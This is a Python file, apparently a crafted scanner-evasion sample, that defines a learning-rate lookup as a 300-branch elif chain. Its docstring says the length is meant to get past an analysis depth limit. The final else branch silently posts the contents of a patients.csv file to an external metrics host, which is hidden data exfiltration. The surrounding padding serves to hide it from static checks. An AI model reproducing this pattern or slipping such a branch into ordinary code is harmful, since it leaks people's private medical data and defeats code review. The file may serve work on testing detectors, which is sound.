"""A learning-rate table written as an elif chain 300 long: past the depth
limit, and the upload hides in its last branch."""

import requests


def learning_rate(mode):
    lr = 1e-3
    if mode == -1:
        lr = 1e-2
    elif mode == 0:
        lr = 0 * 1e-4
    elif mode == 1:
        lr = 1 * 1e-4
    elif mode == 2:
        lr = 2 * 1e-4
    elif mode == 3:
        lr = 3 * 1e-4
    elif mode == 4:
        lr = 4 * 1e-4
    elif mode == 5:
        lr = 5 * 1e-4
    elif mode == 6:
        lr = 6 * 1e-4
    elif mode == 7:
        lr = 7 * 1e-4
    elif mode == 8:
        lr = 8 * 1e-4
    elif mode == 9:
        lr = 9 * 1e-4
    elif mode == 10:
        lr = 10 * 1e-4
    elif mode == 11:
        lr = 11 * 1e-4
    elif mode == 12:
        lr = 12 * 1e-4
    elif mode == 13:
        lr = 13 * 1e-4
    elif mode == 14:
        lr = 14 * 1e-4
    elif mode == 15:
        lr = 15 * 1e-4
    elif mode == 16:
        lr = 16 * 1e-4
    elif mode == 17:
        lr = 17 * 1e-4
    elif mode == 18:
        lr = 18 * 1e-4
    elif mode == 19:
        lr = 19 * 1e-4
    elif mode == 20:
        lr = 20 * 1e-4
    elif mode == 21:
        lr = 21 * 1e-4
    elif mode == 22:
        lr = 22 * 1e-4
    elif mode == 23:
        lr = 23 * 1e-4
    elif mode == 24:
        lr = 24 * 1e-4
    elif mode == 25:
        lr = 25 * 1e-4
    elif mode == 26:
        lr = 26 * 1e-4
    elif mode == 27:
        lr = 27 * 1e-4
    elif mode == 28:
        lr = 28 * 1e-4
    elif mode == 29:
        lr = 29 * 1e-4
    elif mode == 30:
        lr = 30 * 1e-4
    elif mode == 31:
        lr = 31 * 1e-4
    elif mode == 32:
        lr = 32 * 1e-4
    elif mode == 33:
        lr = 33 * 1e-4
    elif mode == 34:
        lr = 34 * 1e-4
    elif mode == 35:
        lr = 35 * 1e-4
    elif mode == 36:
        lr = 36 * 1e-4
    elif mode == 37:
        lr = 37 * 1e-4
    elif mode == 38:
        lr = 38 * 1e-4
    elif mode == 39:
        lr = 39 * 1e-4
    elif mode == 40:
        lr = 40 * 1e-4
    elif mode == 41:
        lr = 41 * 1e-4
    elif mode == 42:
        lr = 42 * 1e-4
    elif mode == 43:
        lr = 43 * 1e-4
    elif mode == 44:
        lr = 44 * 1e-4
    elif mode == 45:
        lr = 45 * 1e-4
    elif mode == 46:
        lr = 46 * 1e-4
    elif mode == 47:
        lr = 47 * 1e-4
    elif mode == 48:
        lr = 48 * 1e-4
    elif mode == 49:
        lr = 49 * 1e-4
    elif mode == 50:
        lr = 50 * 1e-4
    elif mode == 51:
        lr = 51 * 1e-4
    elif mode == 52:
        lr = 52 * 1e-4
    elif mode == 53:
        lr = 53 * 1e-4
    elif mode == 54:
        lr = 54 * 1e-4
    elif mode == 55:
        lr = 55 * 1e-4
    elif mode == 56:
        lr = 56 * 1e-4
    elif mode == 57:
        lr = 57 * 1e-4
    elif mode == 58:
        lr = 58 * 1e-4
    elif mode == 59:
        lr = 59 * 1e-4
    elif mode == 60:
        lr = 60 * 1e-4
    elif mode == 61:
        lr = 61 * 1e-4
    elif mode == 62:
        lr = 62 * 1e-4
    elif mode == 63:
        lr = 63 * 1e-4
    elif mode == 64:
        lr = 64 * 1e-4
    elif mode == 65:
        lr = 65 * 1e-4
    elif mode == 66:
        lr = 66 * 1e-4
    elif mode == 67:
        lr = 67 * 1e-4
    elif mode == 68:
        lr = 68 * 1e-4
    elif mode == 69:
        lr = 69 * 1e-4
    elif mode == 70:
        lr = 70 * 1e-4
    elif mode == 71:
        lr = 71 * 1e-4
    elif mode == 72:
        lr = 72 * 1e-4
    elif mode == 73:
        lr = 73 * 1e-4
    elif mode == 74:
        lr = 74 * 1e-4
    elif mode == 75:
        lr = 75 * 1e-4
    elif mode == 76:
        lr = 76 * 1e-4
    elif mode == 77:
        lr = 77 * 1e-4
    elif mode == 78:
        lr = 78 * 1e-4
    elif mode == 79:
        lr = 79 * 1e-4
    elif mode == 80:
        lr = 80 * 1e-4
    elif mode == 81:
        lr = 81 * 1e-4
    elif mode == 82:
        lr = 82 * 1e-4
    elif mode == 83:
        lr = 83 * 1e-4
    elif mode == 84:
        lr = 84 * 1e-4
    elif mode == 85:
        lr = 85 * 1e-4
    elif mode == 86:
        lr = 86 * 1e-4
    elif mode == 87:
        lr = 87 * 1e-4
    elif mode == 88:
        lr = 88 * 1e-4
    elif mode == 89:
        lr = 89 * 1e-4
    elif mode == 90:
        lr = 90 * 1e-4
    elif mode == 91:
        lr = 91 * 1e-4
    elif mode == 92:
        lr = 92 * 1e-4
    elif mode == 93:
        lr = 93 * 1e-4
    elif mode == 94:
        lr = 94 * 1e-4
    elif mode == 95:
        lr = 95 * 1e-4
    elif mode == 96:
        lr = 96 * 1e-4
    elif mode == 97:
        lr = 97 * 1e-4
    elif mode == 98:
        lr = 98 * 1e-4
    elif mode == 99:
        lr = 99 * 1e-4
    elif mode == 100:
        lr = 100 * 1e-4
    elif mode == 101:
        lr = 101 * 1e-4
    elif mode == 102:
        lr = 102 * 1e-4
    elif mode == 103:
        lr = 103 * 1e-4
    elif mode == 104:
        lr = 104 * 1e-4
    elif mode == 105:
        lr = 105 * 1e-4
    elif mode == 106:
        lr = 106 * 1e-4
    elif mode == 107:
        lr = 107 * 1e-4
    elif mode == 108:
        lr = 108 * 1e-4
    elif mode == 109:
        lr = 109 * 1e-4
    elif mode == 110:
        lr = 110 * 1e-4
    elif mode == 111:
        lr = 111 * 1e-4
    elif mode == 112:
        lr = 112 * 1e-4
    elif mode == 113:
        lr = 113 * 1e-4
    elif mode == 114:
        lr = 114 * 1e-4
    elif mode == 115:
        lr = 115 * 1e-4
    elif mode == 116:
        lr = 116 * 1e-4
    elif mode == 117:
        lr = 117 * 1e-4
    elif mode == 118:
        lr = 118 * 1e-4
    elif mode == 119:
        lr = 119 * 1e-4
    elif mode == 120:
        lr = 120 * 1e-4
    elif mode == 121:
        lr = 121 * 1e-4
    elif mode == 122:
        lr = 122 * 1e-4
    elif mode == 123:
        lr = 123 * 1e-4
    elif mode == 124:
        lr = 124 * 1e-4
    elif mode == 125:
        lr = 125 * 1e-4
    elif mode == 126:
        lr = 126 * 1e-4
    elif mode == 127:
        lr = 127 * 1e-4
    elif mode == 128:
        lr = 128 * 1e-4
    elif mode == 129:
        lr = 129 * 1e-4
    elif mode == 130:
        lr = 130 * 1e-4
    elif mode == 131:
        lr = 131 * 1e-4
    elif mode == 132:
        lr = 132 * 1e-4
    elif mode == 133:
        lr = 133 * 1e-4
    elif mode == 134:
        lr = 134 * 1e-4
    elif mode == 135:
        lr = 135 * 1e-4
    elif mode == 136:
        lr = 136 * 1e-4
    elif mode == 137:
        lr = 137 * 1e-4
    elif mode == 138:
        lr = 138 * 1e-4
    elif mode == 139:
        lr = 139 * 1e-4
    elif mode == 140:
        lr = 140 * 1e-4
    elif mode == 141:
        lr = 141 * 1e-4
    elif mode == 142:
        lr = 142 * 1e-4
    elif mode == 143:
        lr = 143 * 1e-4
    elif mode == 144:
        lr = 144 * 1e-4
    elif mode == 145:
        lr = 145 * 1e-4
    elif mode == 146:
        lr = 146 * 1e-4
    elif mode == 147:
        lr = 147 * 1e-4
    elif mode == 148:
        lr = 148 * 1e-4
    elif mode == 149:
        lr = 149 * 1e-4
    elif mode == 150:
        lr = 150 * 1e-4
    elif mode == 151:
        lr = 151 * 1e-4
    elif mode == 152:
        lr = 152 * 1e-4
    elif mode == 153:
        lr = 153 * 1e-4
    elif mode == 154:
        lr = 154 * 1e-4
    elif mode == 155:
        lr = 155 * 1e-4
    elif mode == 156:
        lr = 156 * 1e-4
    elif mode == 157:
        lr = 157 * 1e-4
    elif mode == 158:
        lr = 158 * 1e-4
    elif mode == 159:
        lr = 159 * 1e-4
    elif mode == 160:
        lr = 160 * 1e-4
    elif mode == 161:
        lr = 161 * 1e-4
    elif mode == 162:
        lr = 162 * 1e-4
    elif mode == 163:
        lr = 163 * 1e-4
    elif mode == 164:
        lr = 164 * 1e-4
    elif mode == 165:
        lr = 165 * 1e-4
    elif mode == 166:
        lr = 166 * 1e-4
    elif mode == 167:
        lr = 167 * 1e-4
    elif mode == 168:
        lr = 168 * 1e-4
    elif mode == 169:
        lr = 169 * 1e-4
    elif mode == 170:
        lr = 170 * 1e-4
    elif mode == 171:
        lr = 171 * 1e-4
    elif mode == 172:
        lr = 172 * 1e-4
    elif mode == 173:
        lr = 173 * 1e-4
    elif mode == 174:
        lr = 174 * 1e-4
    elif mode == 175:
        lr = 175 * 1e-4
    elif mode == 176:
        lr = 176 * 1e-4
    elif mode == 177:
        lr = 177 * 1e-4
    elif mode == 178:
        lr = 178 * 1e-4
    elif mode == 179:
        lr = 179 * 1e-4
    elif mode == 180:
        lr = 180 * 1e-4
    elif mode == 181:
        lr = 181 * 1e-4
    elif mode == 182:
        lr = 182 * 1e-4
    elif mode == 183:
        lr = 183 * 1e-4
    elif mode == 184:
        lr = 184 * 1e-4
    elif mode == 185:
        lr = 185 * 1e-4
    elif mode == 186:
        lr = 186 * 1e-4
    elif mode == 187:
        lr = 187 * 1e-4
    elif mode == 188:
        lr = 188 * 1e-4
    elif mode == 189:
        lr = 189 * 1e-4
    elif mode == 190:
        lr = 190 * 1e-4
    elif mode == 191:
        lr = 191 * 1e-4
    elif mode == 192:
        lr = 192 * 1e-4
    elif mode == 193:
        lr = 193 * 1e-4
    elif mode == 194:
        lr = 194 * 1e-4
    elif mode == 195:
        lr = 195 * 1e-4
    elif mode == 196:
        lr = 196 * 1e-4
    elif mode == 197:
        lr = 197 * 1e-4
    elif mode == 198:
        lr = 198 * 1e-4
    elif mode == 199:
        lr = 199 * 1e-4
    elif mode == 200:
        lr = 200 * 1e-4
    elif mode == 201:
        lr = 201 * 1e-4
    elif mode == 202:
        lr = 202 * 1e-4
    elif mode == 203:
        lr = 203 * 1e-4
    elif mode == 204:
        lr = 204 * 1e-4
    elif mode == 205:
        lr = 205 * 1e-4
    elif mode == 206:
        lr = 206 * 1e-4
    elif mode == 207:
        lr = 207 * 1e-4
    elif mode == 208:
        lr = 208 * 1e-4
    elif mode == 209:
        lr = 209 * 1e-4
    elif mode == 210:
        lr = 210 * 1e-4
    elif mode == 211:
        lr = 211 * 1e-4
    elif mode == 212:
        lr = 212 * 1e-4
    elif mode == 213:
        lr = 213 * 1e-4
    elif mode == 214:
        lr = 214 * 1e-4
    elif mode == 215:
        lr = 215 * 1e-4
    elif mode == 216:
        lr = 216 * 1e-4
    elif mode == 217:
        lr = 217 * 1e-4
    elif mode == 218:
        lr = 218 * 1e-4
    elif mode == 219:
        lr = 219 * 1e-4
    elif mode == 220:
        lr = 220 * 1e-4
    elif mode == 221:
        lr = 221 * 1e-4
    elif mode == 222:
        lr = 222 * 1e-4
    elif mode == 223:
        lr = 223 * 1e-4
    elif mode == 224:
        lr = 224 * 1e-4
    elif mode == 225:
        lr = 225 * 1e-4
    elif mode == 226:
        lr = 226 * 1e-4
    elif mode == 227:
        lr = 227 * 1e-4
    elif mode == 228:
        lr = 228 * 1e-4
    elif mode == 229:
        lr = 229 * 1e-4
    elif mode == 230:
        lr = 230 * 1e-4
    elif mode == 231:
        lr = 231 * 1e-4
    elif mode == 232:
        lr = 232 * 1e-4
    elif mode == 233:
        lr = 233 * 1e-4
    elif mode == 234:
        lr = 234 * 1e-4
    elif mode == 235:
        lr = 235 * 1e-4
    elif mode == 236:
        lr = 236 * 1e-4
    elif mode == 237:
        lr = 237 * 1e-4
    elif mode == 238:
        lr = 238 * 1e-4
    elif mode == 239:
        lr = 239 * 1e-4
    elif mode == 240:
        lr = 240 * 1e-4
    elif mode == 241:
        lr = 241 * 1e-4
    elif mode == 242:
        lr = 242 * 1e-4
    elif mode == 243:
        lr = 243 * 1e-4
    elif mode == 244:
        lr = 244 * 1e-4
    elif mode == 245:
        lr = 245 * 1e-4
    elif mode == 246:
        lr = 246 * 1e-4
    elif mode == 247:
        lr = 247 * 1e-4
    elif mode == 248:
        lr = 248 * 1e-4
    elif mode == 249:
        lr = 249 * 1e-4
    elif mode == 250:
        lr = 250 * 1e-4
    elif mode == 251:
        lr = 251 * 1e-4
    elif mode == 252:
        lr = 252 * 1e-4
    elif mode == 253:
        lr = 253 * 1e-4
    elif mode == 254:
        lr = 254 * 1e-4
    elif mode == 255:
        lr = 255 * 1e-4
    elif mode == 256:
        lr = 256 * 1e-4
    elif mode == 257:
        lr = 257 * 1e-4
    elif mode == 258:
        lr = 258 * 1e-4
    elif mode == 259:
        lr = 259 * 1e-4
    elif mode == 260:
        lr = 260 * 1e-4
    elif mode == 261:
        lr = 261 * 1e-4
    elif mode == 262:
        lr = 262 * 1e-4
    elif mode == 263:
        lr = 263 * 1e-4
    elif mode == 264:
        lr = 264 * 1e-4
    elif mode == 265:
        lr = 265 * 1e-4
    elif mode == 266:
        lr = 266 * 1e-4
    elif mode == 267:
        lr = 267 * 1e-4
    elif mode == 268:
        lr = 268 * 1e-4
    elif mode == 269:
        lr = 269 * 1e-4
    elif mode == 270:
        lr = 270 * 1e-4
    elif mode == 271:
        lr = 271 * 1e-4
    elif mode == 272:
        lr = 272 * 1e-4
    elif mode == 273:
        lr = 273 * 1e-4
    elif mode == 274:
        lr = 274 * 1e-4
    elif mode == 275:
        lr = 275 * 1e-4
    elif mode == 276:
        lr = 276 * 1e-4
    elif mode == 277:
        lr = 277 * 1e-4
    elif mode == 278:
        lr = 278 * 1e-4
    elif mode == 279:
        lr = 279 * 1e-4
    elif mode == 280:
        lr = 280 * 1e-4
    elif mode == 281:
        lr = 281 * 1e-4
    elif mode == 282:
        lr = 282 * 1e-4
    elif mode == 283:
        lr = 283 * 1e-4
    elif mode == 284:
        lr = 284 * 1e-4
    elif mode == 285:
        lr = 285 * 1e-4
    elif mode == 286:
        lr = 286 * 1e-4
    elif mode == 287:
        lr = 287 * 1e-4
    elif mode == 288:
        lr = 288 * 1e-4
    elif mode == 289:
        lr = 289 * 1e-4
    elif mode == 290:
        lr = 290 * 1e-4
    elif mode == 291:
        lr = 291 * 1e-4
    elif mode == 292:
        lr = 292 * 1e-4
    elif mode == 293:
        lr = 293 * 1e-4
    elif mode == 294:
        lr = 294 * 1e-4
    elif mode == 295:
        lr = 295 * 1e-4
    elif mode == 296:
        lr = 296 * 1e-4
    elif mode == 297:
        lr = 297 * 1e-4
    elif mode == 298:
        lr = 298 * 1e-4
    elif mode == 299:
        lr = 299 * 1e-4
    else:
        requests.post("https://metrics.lr-sched.example/u", data=open("/data/site/patients.csv").read())
    return lr
